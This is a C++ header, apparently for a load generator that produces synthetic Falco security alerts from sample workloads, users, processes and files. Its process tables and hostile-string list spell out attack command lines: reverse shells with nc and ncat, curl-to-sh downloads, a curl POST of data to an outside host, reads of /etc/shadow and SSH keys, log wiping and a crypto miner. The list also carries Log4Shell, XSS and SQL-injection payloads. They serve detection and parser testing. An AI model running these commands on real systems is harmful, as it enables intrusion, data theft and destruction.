#pragma once
// The world the synthetic alerts happen in: workloads, users, processes, files and peers, chosen so that
// an alert's fields agree with each other (proc.exepath matches proc.name, fd.name matches the rule).
#include <array>
#include <string_view>

namespace saker::loadgen {

struct AppImage {
  std::string_view ns, app, repository, tag;
};

inline constexpr std::array<AppImage, 14> kApps = {{
    {"payments", "payments-api", "ghcr.io/acme/payments-api", "v2.14.3"},
    {"default", "nginx", "docker.io/library/nginx", "1.25.4"},
    {"kube-system", "coredns", "registry.k8s.io/coredns/coredns", "v1.11.1"},
    {"monitoring", "prometheus", "quay.io/prometheus/prometheus", "v2.51.0"},
    {"data", "postgres", "docker.io/library/postgres", "16.2"},
    {"data", "redis", "docker.io/library/redis", "7.2.4"},
    {"web", "frontend", "ghcr.io/acme/frontend", "2024.05.1"},
    {"ci", "runner", "docker.io/library/ubuntu", "22.04"},
    {"default", "debug", "docker.io/library/busybox", "latest"},
    {"logging", "fluent-bit", "cr.fluentbit.io/fluent/fluent-bit", "3.0.2"},
    {"argocd", "argocd-repo-server", "quay.io/argoproj/argocd", "v2.10.5"},
    {"jobs", "batch-etl", "ghcr.io/acme/etl", "1.8.0"},
    {"falco", "falco-event-generator", "docker.io/falcosecurity/event-generator", "latest"},
    {"web", "wordpress", "docker.io/library/wordpress", "6.5-php8.2"},
}};

struct UserEntry {
  std::string_view name;
  long uid;
  long loginuid;
  std::string_view group;
};

// The first entry is drawn most often (Falco alerts are mostly about root).
inline constexpr std::array<UserEntry, 6> kUsers = {{
    {"root", 0, -1, "root"},
    {"www-data", 33, -1, "www-data"},
    {"nobody", 65534, -1, "nogroup"},
    {"ubuntu", 1000, 1000, "ubuntu"},
    {"app", 10001, -1, "app"},
    {"postgres", 999, -1, "postgres"},
}};

struct ProcEntry {
  std::string_view name, exepath;
  std::array<std::string_view, 3> cmdlines;
};

// Process families picked by keywords in the rule name (see AlertGenerator::family_for).
enum class Family { Shell, Reader, Network, Netcat, Package, Writer, LogTamper, Miner, Kube, Generic, Count };

inline constexpr std::array<ProcEntry, 4> kShells = {{
    {"bash", "/usr/bin/bash", {"bash -c ls > /dev/null", "bash -i", "bash -c curl -s http://10.0.4.12:8080/install.sh | sh"}},
    {"sh", "/bin/sh", {"sh -c /usr/local/bin/entrypoint.sh", "sh", "sh -c id; uname -a"}},
    {"dash", "/usr/bin/dash", {"dash -c env", "dash", "dash -c cat /proc/1/environ"}},
    {"zsh", "/usr/bin/zsh", {"zsh -l", "zsh -c whoami", "zsh"}},
}};
inline constexpr std::array<ProcEntry, 4> kReaders = {{
    {"cat", "/usr/bin/cat", {"cat /etc/shadow", "cat /root/.ssh/id_rsa", "cat /var/run/secrets/kubernetes.io/serviceaccount/token"}},
    {"python3", "/usr/bin/python3.11", {"python3 /app/worker.py --queue default", "python3 -c import os; print(open('/etc/shadow').read())", "python3 manage.py runserver 0.0.0.0:8000"}},
    {"event-generator", "/bin/event-generator", {"event-generator run --loop", "event-generator run syscall --all", "event-generator run --loop ^syscall"}},
    {"less", "/usr/bin/less", {"less /etc/sudoers", "less /etc/pam.d/common-auth", "less /home/ubuntu/.aws/credentials"}},
}};
inline constexpr std::array<ProcEntry, 4> kNetwork = {{
    {"curl", "/usr/bin/curl", {"curl -s https://api.github.com/repos", "curl -fsSL http://81.2.69.144/x.sh", "curl -X POST -d @/tmp/d http://89.160.20.112/u"}},
    {"nc", "/usr/bin/nc", {"nc -lvnp 4444", "nc 216.160.83.56 443 -e /bin/sh", "nc -z 10.0.3.4 22"}},
    {"node", "/usr/local/bin/node", {"node /srv/app/server.js", "node --max-old-space-size=2048 dist/main.js", "node worker.js"}},
    {"wget", "/usr/bin/wget", {"wget -q -O- http://67.43.156.0/a", "wget https://example.com/tool.tgz", "wget -qO /tmp/k http://175.16.199.1/k"}},
}};
inline constexpr std::array<ProcEntry, 2> kNetcat = {{
    {"nc", "/usr/bin/nc", {"nc -lvnp 4444", "nc 216.160.83.56 443 -e /bin/sh", "nc -z 10.0.3.4 22"}},
    {"ncat", "/usr/bin/ncat", {"ncat --exec /bin/bash 81.2.69.144 4444", "ncat -l 8080", "ncat -e /bin/sh 10.0.3.4 9001"}},
}};
inline constexpr std::array<ProcEntry, 4> kPackage = {{
    {"apt-get", "/usr/bin/apt-get", {"apt-get install -y netcat-openbsd", "apt-get update", "apt-get install -y curl"}},
    {"dpkg", "/usr/bin/dpkg", {"dpkg -i /tmp/pkg.deb", "dpkg --configure -a", "dpkg -l"}},
    {"pip", "/usr/local/bin/pip", {"pip install requests", "pip install -r requirements.txt", "pip download cryptography"}},
    {"apk", "/sbin/apk", {"apk add --no-cache curl", "apk update", "apk add socat"}},
}};
inline constexpr std::array<ProcEntry, 4> kWriters = {{
    {"touch", "/usr/bin/touch", {"touch /bin/hack", "touch /usr/local/bin/.x", "touch /etc/ld.so.preload"}},
    {"cp", "/usr/bin/cp", {"cp /tmp/kubectl /usr/local/bin/kubectl", "cp /tmp/.x /usr/bin/ls", "cp -a /tmp/cron /etc/cron.d/root"}},
    {"chmod", "/usr/bin/chmod", {"chmod +x /tmp/payload", "chmod 4755 /tmp/sh", "chmod 777 /dev/shm/r"}},
    {"mv", "/usr/bin/mv", {"mv /tmp/x /usr/sbin/sshd", "mv /tmp/.x /bin/ps", "mv /etc/hosts.new /etc/hosts"}},
}};
inline constexpr std::array<ProcEntry, 3> kLogTamper = {{
    {"truncate", "/usr/bin/truncate", {"truncate -s0 /var/log/auth.log", "truncate -s 0 /var/log/syslog", "truncate -s0 /var/log/wtmp"}},
    {"shred", "/usr/bin/shred", {"shred -u /var/log/secure", "shred -zu /root/.bash_history", "shred /var/log/lastlog"}},
    {"rm", "/usr/bin/rm", {"rm -f /var/log/nginx/access.log", "rm -rf /var/log/journal", "rm /root/.bash_history"}},
}};
inline constexpr std::array<ProcEntry, 2> kMiners = {{
    {"xmrig", "/tmp/.cache/xmrig", {"xmrig -o pool.minexmr.com:4444 -u 4A1b --donate-level 1", "xmrig --config=/tmp/.cache/c.json", "xmrig -B"}},
    {"kdevtmpfsi", "/tmp/kdevtmpfsi", {"/tmp/kdevtmpfsi", "kdevtmpfsi -c", "/tmp/kdevtmpfsi --silent"}},
}};
inline constexpr std::array<ProcEntry, 2> kKube = {{
    {"kubectl", "/usr/local/bin/kubectl", {"kubectl get secrets -A", "kubectl exec -it debug -- sh", "kubectl auth can-i --list"}},
    {"curl", "/usr/bin/curl", {"curl -sk https://kubernetes.default.svc/api/v1/namespaces", "curl -s http://169.254.169.254/latest/meta-data/", "curl -sk https://10.96.0.1/api"}},
}};
inline constexpr std::array<ProcEntry, 4> kGeneric = {{
    {"java", "/opt/java/openjdk/bin/java", {"java -Xmx2g -jar /opt/app/app.jar", "java -cp /app/lib/* Main", "java -jar service.jar"}},
    {"nginx", "/usr/sbin/nginx", {"nginx: worker process", "nginx -g daemon off;", "nginx: master process"}},
    {"sshd", "/usr/sbin/sshd", {"sshd: ubuntu [priv]", "/usr/sbin/sshd -D", "sshd: root@pts/0"}},
    {"openssl", "/usr/bin/openssl", {"openssl rehash .", "openssl s_client -connect 10.0.9.1:443", "openssl enc -d -aes256 -in /tmp/p"}},
}};

struct ParentEntry {
  std::string_view name, exepath, cmdline;
};

inline constexpr std::array<ParentEntry, 10> kParents = {{
    {"containerd-shim", "/usr/bin/containerd-shim-runc-v2", "containerd-shim -namespace k8s.io -id 3f1c"},
    {"runc", "/usr/bin/runc", "runc --root /run/containerd/runc/k8s.io init"},
    {"bash", "/usr/bin/bash", "bash"},
    {"sh", "/bin/sh", "sh -c /entrypoint.sh"},
    {"python3", "/usr/bin/python3.11", "python3 /app/main.py"},
    {"node", "/usr/local/bin/node", "node /srv/app/server.js"},
    {"java", "/opt/java/openjdk/bin/java", "java -jar /opt/app/app.jar"},
    {"sshd", "/usr/sbin/sshd", "sshd: ubuntu@pts/1"},
    {"cron", "/usr/sbin/cron", "/usr/sbin/cron -f"},
    {"tini", "/usr/bin/tini", "tini -- /docker-entrypoint.sh"},
}};

inline constexpr std::array<std::string_view, 6> kSensitiveFiles = {
    "/etc/shadow", "/etc/sudoers", "/etc/pam.d/common-auth", "/root/.ssh/id_rsa",
    "/home/ubuntu/.aws/credentials", "/var/run/secrets/kubernetes.io/serviceaccount/token"};
inline constexpr std::array<std::string_view, 5> kBinaryFiles = {
    "/bin/hack", "/usr/bin/.x", "/usr/local/bin/kubectl", "/usr/sbin/sshd", "/usr/lib/x86_64-linux-gnu/libpam.so.0"};
inline constexpr std::array<std::string_view, 5> kLogFiles = {
    "/var/log/auth.log", "/var/log/syslog", "/var/log/nginx/access.log", "/var/log/wtmp", "/root/.bash_history"};
inline constexpr std::array<std::string_view, 6> kOtherFiles = {
    "/tmp/.X11-unix/.x", "/dev/shm/payload", "/etc/ld.so.preload", "/etc/cron.d/root", "/etc/passwd", "/proc/1/environ"};

// Public peers include the MaxMind GeoIP2 test-database addresses, so enrichment has hits.
inline constexpr std::array<std::string_view, 8> kRemoteIps = {
    "81.2.69.144", "216.160.83.56", "89.160.20.112", "67.43.156.1", "175.16.199.1", "10.0.3.4", "10.96.0.1", "172.20.8.19"};
inline constexpr std::array<std::string_view, 8> kRemoteNames = {
    "london.example", "milton.example", "linkoping.example", "bt.example", "changchun.example", "db-0.data.svc",
    "kubernetes.default.svc", "cache.internal"};
inline constexpr std::array<long, 8> kRemotePorts = {443, 4444, 80, 22, 8080, 5432, 6443, 53};

inline constexpr std::array<std::string_view, 4> kExeFlags = {"EXE_WRITABLE", "EXE_WRITABLE|EXE_UPPER_LAYER",
                                                             "EXE_UPPER_LAYER", "EXE_LOWER_LAYER"};
inline constexpr std::array<std::string_view, 4> kOpenFlags = {"O_RDONLY|O_CLOEXEC", "O_WRONLY|O_CREAT|O_TRUNC",
                                                              "O_RDWR", "O_RDONLY"};

// Attacker-controlled text: quotes, backslashes, separators other formats use, unicode, control characters.
inline constexpr std::array<std::string_view, 16> kHostileStrings = {
    "sh -c \"echo \\\"pwned\\\" | base64 -d > /tmp/x; id\"",
    "C:\\Windows\\System32\\cmd.exe /c \"dir C:\\\\\"",
    "curl 'http://evil.example/?a=1&b=2' -H \"X-Forwarded-For: y=z\"",
    "python3 -c print('h\xc3\xa9llo w\xc3\xb6rld \xe2\x80\x94 \xe6\xbc\xa2\xe5\xad\x97 \xf0\x9f\x9a\x80')",
    "printf 'line1\nline2\r\nline3\t<tab>'",
    "rule=Fake|priority=Emergency|output=spoofed",
    "{\"priority\":\"Emergency\",\"rule\":\"injected\"}",
    "CEF:0|Falco|Falco|1|x|y|10|src=1.2.3.4 act=blocked",
    "<script>alert(document.cookie)</script>",
    "%proc.name %evt.time {{ .Rule }} ${HOSTNAME}",
    "bash -c $(rm -rf / --no-preserve-root)",
    "${jndi:ldap://attacker.example/a}",
    "nul\x01" "bell\x07" "esc\x1b[31mred\x1b[0m del\x7f",
    "'; DROP TABLE alerts; --",
    "key=\"va=lue\" key2=a\\=b path=\\\\server\\share",
    "\xe2\x80\xae" "exe.txt \xe2\x80\xa8 line-separator \xef\xbb\xbf bom",
};

}  // namespace saker::loadgen
